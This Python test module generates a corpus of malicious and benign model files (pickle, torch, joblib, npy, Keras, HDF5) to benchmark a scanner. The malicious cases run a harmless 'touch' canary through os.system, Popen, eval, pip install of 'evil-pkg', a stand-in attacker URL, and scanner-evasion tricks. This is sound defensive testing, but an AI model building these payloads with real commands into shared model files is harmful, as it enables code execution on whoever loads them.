"""Model artifacts built from raw pickle opcodes and file-format bytes, at test time.

Nothing here imports torch, numpy or joblib, and nothing here ever unpickles: each
malicious case is a byte string that *would* run ``touch <canary>`` (or reach a known
gadget) if a victim loaded it, so a scanner that executed it would leave the canary file.

Run as a script to write the corpus to a directory (used by benchmarks/, which must not
import from tests/):  python tests/artifact_corpus.py /tmp/corpus
"""

from __future__ import annotations

import gzip
import io
import json
import struct
import sys
import tarfile
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"
STOP = b"."
MARK = b"("
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
REDUCE = b"R"
BUILD = b"b"
EMPTY_TUPLE = b")"
EMPTY_LIST = b"]"
EMPTY_DICT = b"}"
APPENDS = b"e"
SETITEM = b"s"
SETITEMS = b"u"
STACK_GLOBAL = b"\x93"
NEWOBJ = b"\x81"
POP = b"0"
NONE = b"N"
NEWFALSE = b"\x89"
NEWTRUE = b"\x88"
TORCH_MAGIC = 0x1950A86A20F9469CFC6C


def s(text: str) -> bytes:
    """BINUNICODE (protocol 1+)."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def su(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def g(module: str, name: str) -> bytes:
    """GLOBAL."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL from two literal strings."""
    return su(module) + su(name) + STACK_GLOBAL


def i(n: int) -> bytes:
    return b"K" + bytes([n]) if 0 <= n < 256 else b"J" + struct.pack("<i", n)


def binput(n: int) -> bytes:
    return b"q" + bytes([n])


def binget(n: int) -> bytes:
    return b"h" + bytes([n])


def call(fn: bytes, *args: bytes) -> bytes:
    """fn(*args) with REDUCE."""
    return fn + MARK + b"".join(args) + b"t" + REDUCE


def touch(canary: str) -> str:
    return f"touch {canary}"


def os_system(canary: str, module: str = "os") -> bytes:
    return PROTO2 + call(g(module, "system"), s(touch(canary))) + STOP


def _getattr_chain(importer: bytes, canary: str) -> bytes:
    """getattr(<importer result>, 'system')('touch canary')."""
    os_mod = importer
    system = call(g("builtins", "getattr"), os_mod, s("system"))
    return PROTO2 + call(system, s(touch(canary))) + STOP


def npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
    text = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    pad = 64 - (10 + len(text) + 1) % 64
    body = (text + " " * pad + "\n").encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(body)) + body


def zip_bytes(members: dict[str, bytes], stored: bool = True) -> bytes:
    buf = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def state_dict_pickle() -> bytes:
    """A torch state_dict as torch.save writes it: OrderedDict of _rebuild_tensor_v2."""
    storage = MARK + su("storage") + sg("torch", "FloatStorage") + su("0") + su("cpu") + i(6)
    storage += b"t" + b"Q"  # TUPLE, BINPERSID
    tensor = (
        sg("torch._utils", "_rebuild_tensor_v2")
        + MARK
        + storage
        + i(0)
        + i(2)
        + i(3)
        + TUPLE2
        + i(3)
        + i(1)
        + TUPLE2
        + NEWFALSE
        + sg("collections", "OrderedDict")
        + EMPTY_TUPLE
        + REDUCE
        + b"t"
        + REDUCE
    )
    body = sg("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
    body += MARK + su("weight") + tensor + SETITEMS
    return PROTO4 + body + STOP


def tar_gz(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def torch_zip(data_pkl: bytes) -> bytes:
    return zip_bytes(
        {
            "archive/data.pkl": data_pkl,
            "archive/byteorder": b"little",
            "archive/data/0": struct.pack("<6f", *range(6)),
            "archive/version": b"3\n",
        }
    )


def corrupt_torch_zip(data_pkl: bytes) -> bytes:
    """Bad CRC in the central directory, encryption flag bit set in the local header."""
    raw = bytearray(torch_zip(data_pkl))
    local = raw.find(b"PK\x03\x04")
    raw[local + 6] |= 0x01
    central = raw.find(b"PK\x01\x02")
    raw[central + 16 : central + 20] = b"\xde\xad\xbe\xef"
    return bytes(raw)


def legacy_torch(main: bytes) -> bytes:
    magic = PROTO2 + b"\x8a\x0a" + TORCH_MAGIC.to_bytes(10, "little") + STOP
    version = PROTO2 + b"M" + struct.pack("<H", 1001) + STOP
    sys_info = PROTO2 + EMPTY_DICT + STOP
    keys = PROTO2 + EMPTY_LIST + STOP
    return magic + version + sys_info + main + keys + b"\x00" * 32


def _dtype(code: str) -> bytes:
    state = MARK + i(3) + su("<") + NONE + NONE + NONE + i(-1) + i(-1) + i(0) + b"t"
    return call(sg("numpy", "dtype"), su(code), NEWFALSE, NEWTRUE) + state + BUILD


def joblib_array(n: int, data: bytes, aligned: bool = True) -> bytes:
    """A NumpyArrayWrapper for a uint8 array of ``n`` items followed by its raw data."""
    state = MARK
    state += su("subclass") + sg("numpy", "ndarray")
    state += su("shape") + i(n) + TUPLE1
    state += su("order") + su("C")
    state += su("dtype") + _dtype("u1")
    state += su("allow_mmap") + NEWTRUE
    if aligned:
        state += su("numpy_array_alignment_bytes") + i(16)
    wrapper = sg("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
    wrapper += EMPTY_DICT + state + SETITEMS + BUILD
    return wrapper + (b"\x03\xff\xff\xff" if aligned else b"") + data


def joblib_file(payload: bytes | None) -> bytes:
    """[array, <payload>] with the payload placed after the raw array bytes."""
    junk = b"\n\xff\x00junk that is not pickle\x93\x00" * 4
    body = PROTO4 + EMPTY_LIST + MARK + joblib_array(len(junk), junk)
    if payload is not None:
        body += payload
    return body + APPENDS + STOP


def keras_archive(layers: list[dict[str, object]]) -> bytes:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": layers},
    }
    return zip_bytes(
        {
            "metadata.json": json.dumps({"keras_version": "3.6.0"}).encode(),
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\x00" * 56,
        },
        stored=False,
    )


LAMBDA_LAYER = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {
        "name": "evil",
        "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}},
    },
}
DENSE_LAYER = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense"}}


def hdf5_with_config(config: dict[str, object]) -> bytes:
    text = json.dumps({"class_name": "Sequential", "config": config}).encode()
    return b"\x89HDF\r\n\x1a\n" + b"\x00" * 200 + b"model_config\x00" + text + b"\x00" * 64


def safetensors_file() -> bytes:
    header = {
        "__metadata__": {"format": "pt"},
        "a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
        "b": {"dtype": "I64", "shape": [1], "data_offsets": [16, 24]},
    }
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + b"\x00" * 24


@dataclass(frozen=True)
class Case:
    """One corpus file. ``expect``: substrings the findings must contain (malicious)."""

    name: str
    path: str
    data: bytes
    expect: tuple[str, ...] = ()
    note_only: bool = False  # benign pickle-format file: exactly one note finding
    tags: tuple[str, ...] = field(default=())
    # Files written beside ``path`` (a Keras model directory); findings are on ``path``.
    extra: tuple[tuple[str, bytes], ...] = ()
    # Which loader runs the payload (the corpus's claim, checked by construction).
    loader: str = ""

    @property
    def files(self) -> dict[str, bytes]:
        return {self.path: self.data, **dict(self.extra)}

    @property
    def malicious(self) -> bool:
        return bool(self.expect)


def malicious_cases(canary: str) -> list[Case]:
    cmd = touch(canary)
    mem_trick = PROTO4 + su("os") + binput(0) + POP + su("decoy") + POP
    mem_trick += binget(0) + su("system") + STACK_GLOBAL + s(cmd) + TUPLE1 + REDUCE + STOP
    computed = PROTO4 + call(g("builtins", "str"), su("os")) + su("system") + STACK_GLOBAL
    computed += s(cmd) + TUPLE1 + REDUCE + STOP
    smuggle = PROTO2 + g("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
    smuggle += EMPTY_DICT + s("__setstate__") + g("os", "system") + SETITEM + BUILD
    smuggle += s(cmd) + BUILD + STOP
    patch = PROTO2 + g("collections", "OrderedDict") + NONE + EMPTY_DICT
    patch += s("__repr__") + g("collections", "OrderedDict") + SETITEM + TUPLE2 + BUILD + STOP
    spawn = g("multiprocessing.util", "spawnv_passfds")
    touch_bin = b"C" + bytes([len(b"/usr/bin/touch")]) + b"/usr/bin/touch"
    multi = (
        PROTO4
        + call(spawn, touch_bin, EMPTY_LIST + MARK + s("touch") + s(canary) + APPENDS, EMPTY_TUPLE)
        + STOP
    )
    popen = PROTO4 + sg("subprocess", "Popen") + EMPTY_LIST + MARK + su("touch") + su(canary)
    popen += APPENDS + TUPLE1 + REDUCE + STOP
    inst = b"(S'" + cmd.encode() + b"'\nios\nsystem\n."
    obj = PROTO2 + MARK + g("os", "system") + s(cmd) + b"o" + STOP
    evil_npy = npy_header("|O", (1,)) + os_system(canary)
    pay = g("os", "system") + s(cmd) + TUPLE1 + REDUCE
    joblib_evil = joblib_file(pay)
    # Array bytes that joblib.load reads as data but pickle.load runs as opcodes.
    hidden = pay + b"0"  # os.system(cmd), then POP its result
    dual = PROTO4 + EMPTY_LIST + MARK + joblib_array(len(hidden), hidden, aligned=False)
    dual += APPENDS + STOP
    pay_pickle = os_system(canary)
    path = call(sg("pathlib", "PosixPath"), su(canary))
    wrapfunc = call(sg("numpy._core.fromnumeric", "_wrapfunc"), path, su("write_text"), su("x"))
    return [
        Case("os.system", "model.pkl", os_system(canary), ("os.system",)),
        Case("posix.system", "weights.bin", os_system(canary, "posix"), ("posix.system",)),
        Case("subprocess.Popen", "clf.joblib", popen, ("subprocess.Popen",)),
        Case(
            "builtins.eval",
            "m.pkl",
            PROTO2 + call(g("builtins", "eval"), s(f"open({canary!r}, 'w')")) + STOP,
            ("builtins.eval",),
        ),
        Case(
            "builtins.exec",
            "m.pkl",
            PROTO2 + call(g("builtins", "exec"), s(f"open({canary!r}, 'w')")) + STOP,
            ("builtins.exec",),
        ),
        Case(
            "builtins.__import__",
            "m.pkl",
            _getattr_chain(call(g("builtins", "__import__"), s("os")), canary),
            ("builtins.__import__", "builtins.getattr"),
        ),
        Case(
            "importlib.import_module",
            "m.pkl",
            _getattr_chain(call(g("importlib", "import_module"), s("os")), canary),
            ("importlib.import_module",),
        ),
        Case(
            "runpy._run_code",
            "m.pkl",
            PROTO2 + call(g("runpy", "_run_code"), s(f"open({canary!r}, 'w')"), EMPTY_DICT) + STOP,
            ("runpy._run_code",),
        ),
        Case(
            "webbrowser.open",
            "m.pkl",
            PROTO2 + call(g("webbrowser", "open"), s("https://attacker.invalid/")) + STOP,
            ("webbrowser.open",),
        ),
        Case(
            "pip.main",
            "m.pkl",
            PROTO2
            + call(g("pip", "main"), EMPTY_LIST + MARK + s("install") + s("evil-pkg") + APPENDS)
            + STOP,
            ("pip.main",),
        ),
        Case("multiprocessing spawn", "m.pkl", multi, ("multiprocessing.util.spawnv_passfds",)),
        Case(
            "numpy _wrapfunc getattr gadget",
            "m.pkl",
            PROTO4 + wrapfunc + STOP,
            ("numpy._core.fromnumeric._wrapfunc",),
        ),
        Case("INST os.system (protocol 0)", "m.pkl", inst, ("os.system",)),
        Case("OBJ os.system", "m.pkl", obj, ("os.system",)),
        Case("STACK_GLOBAL memo trick", "m.pkl", mem_trick, ("os.system",)),
        Case("STACK_GLOBAL computed name", "m.pkl", computed, ("computed at load time",)),
        Case("BUILD __setstate__ smuggling", "m.pkl", smuggle, ("'__setstate__'", "os.system")),
        Case("BUILD on an imported class", "m.pkl", patch, ("BUILD changes attributes",)),
        Case("torch zip os.system", "model.pt", torch_zip(os_system(canary)), ("os.system",)),
        Case(
            "torch zip bad CRC + flag bits",
            "model.pt",
            corrupt_torch_zip(os_system(canary)),
            ("os.system", "suspicious headers", "CRC-32 mismatch"),
        ),
        Case("legacy torch os.system", "old.pth", legacy_torch(os_system(canary)), ("os.system",)),
        Case("joblib payload after array", "model.joblib", joblib_evil, ("os.system",)),
        Case(
            "joblib array bytes run by pickle.load",
            "model.pkl",
            dual,
            ("read with pickle.load instead of joblib.load", "os.system"),
        ),
        Case("joblib zlib payload", "model.joblib.z", zlib.compress(joblib_evil), ("os.system",)),
        Case(
            "joblib gzip payload",
            "model.joblib.gz",
            gzip.compress(joblib_evil, mtime=0),
            ("os.system",),
        ),
        Case("object-dtype .npy", "arr.npy", evil_npy, ("os.system",)),
        Case(".npz with object array", "arrs.npz", zip_bytes({"a.npy": evil_npy}), ("os.system",)),
        Case(
            ".keras Lambda layer",
            "model.keras",
            keras_archive([DENSE_LAYER, LAMBDA_LAYER]),
            ("Lambda layer",),
        ),
        Case(
            ".h5 Lambda layer",
            "model.h5",
            hdf5_with_config({"layers": [LAMBDA_LAYER]}),
            ("Lambda layer",),
        ),
        Case(
            "pickle in a nested zip",
            "bundle.zip",
            zip_bytes({"inner.zip": zip_bytes({"model.pkl": os_system(canary)})}),
            ("os.system",),
        ),
        Case(
            "model.tar.gz bundle with a torch zip",
            "model.tar.gz",
            tar_gz({"code/inference.py": b"import torch\n", "model.pth": torch_zip(pay_pickle)}),
            ("os.system",),
        ),
        Case("pickle disguised as .txt", "notes.txt", os_system(canary), ("os.system",)),
        *loader_cases(canary),
    ]


def benign_cases() -> list[Case]:
    od = PROTO2 + g("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
    od += EMPTY_LIST + MARK + s("a") + i(1) + TUPLE2 + APPENDS + TUPLE1 + STOP
    return [
        Case("torch state_dict pickle", "state.pkl", state_dict_pickle(), note_only=True),
        Case("torch zip state_dict", "model.pt", torch_zip(state_dict_pickle()), note_only=True),
        Case("OrderedDict pickle", "od.pkl", od, note_only=True),
        Case("joblib array", "arr.joblib", joblib_file(None), note_only=True),
        Case("plain .npy", "x.npy", npy_header("<f8", (2,)) + b"\x00" * 16),
        Case("valid safetensors", "model.safetensors", safetensors_file()),
        Case(".keras Dense only", "ok.keras", keras_archive([DENSE_LAYER])),
        Case(".h5 Dense only", "ok.h5", hdf5_with_config({"layers": [DENSE_LAYER]})),
        Case("text file", "README.md", b"# Model card\n\n(c) 2024 the authors\n"),
        *real_world_cases(),
    ]


def write_corpus(root: Path, canary: str) -> list[tuple[Case, Path]]:
    """Each case in its own directory under ``root``; returns (case, file) pairs."""
    written = []
    for n, case in enumerate(malicious_cases(canary) + benign_cases()):
        for rel, data in case.files.items():
            target = root / f"{n:02d}" / rel
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data)
        written.append((case, root / f"{n:02d}" / case.path))
    return written


def loader_cases(canary: str) -> list[Case]:
    """Each way a loader reads a file differently from a naive scanner (one case per
    mechanism): defined in artifact_corpus_loaders (imported late: it uses this module)."""
    import artifact_corpus_loaders

    return artifact_corpus_loaders.malicious(canary)


def real_world_cases() -> list[Case]:
    """Benign files shaped the way scikit-learn, pandas, torch, numpy, xgboost, lightgbm,
    catboost and Keras write them (built by hand: none of those libraries is needed)."""
    import artifact_corpus_benign

    return artifact_corpus_benign.benign()


if __name__ == "__main__":
    out = Path(sys.argv[1])
    pairs = write_corpus(out, str(out / "CANARY"))
    index = [
        {
            "name": c.name,
            "file": str(p.relative_to(out)),
            "malicious": c.malicious,
            "loader": c.loader,
        }
        for c, p in pairs
    ]
    (out / "index.json").write_text(json.dumps(index, indent=1))
    print(f"{len(pairs)} cases written to {out}")
